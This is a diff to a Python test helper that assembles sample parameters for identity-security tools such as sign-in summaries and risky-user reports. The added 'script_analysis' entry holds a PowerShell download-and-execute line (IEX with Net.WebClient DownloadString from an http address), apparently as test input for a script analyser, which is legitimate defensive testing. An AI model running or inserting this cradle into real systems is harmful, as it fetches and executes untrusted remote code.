@@ -128,6 +128,7 @@ def _skill_params(store: Store, key: dict[str, Any]) -> dict[str, dict[str, Any]
     dynamic = _first(store, "SELECT id FROM groups WHERE membershipRule IS NOT NULL ORDER BY id")
     app = _first(store, "SELECT appId FROM signIns GROUP BY 1 ORDER BY count(*) DESC")
     policy = _first(store, "SELECT id FROM conditionalAccessPolicies ORDER BY id")
+    ip = _first(store, "SELECT ipAddress FROM signIns GROUP BY 1 ORDER BY count(*) DESC")
     member = _first(
         store, "SELECT member_id FROM group_members WHERE group_id = $g ORDER BY 1", g=group
     )
@@ -151,6 +152,10 @@ def _skill_params(store: Store, key: dict[str, Any]) -> dict[str, dict[str, Any]
         "risky_user_summary": {"user": bob},
         "risky_users": {},
         "role_holders": {"role": GLOBAL_ADMINISTRATOR},
+        "script_analysis": {
+            "script": f"$g = Get-MgServicePrincipal -Filter \"appId eq '{app}'\"\n"
+            f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')"
+        },
         "signin_summary": {},
         "signin_troubleshoot": {"user": alice},
         "user_details": {"user": alice},
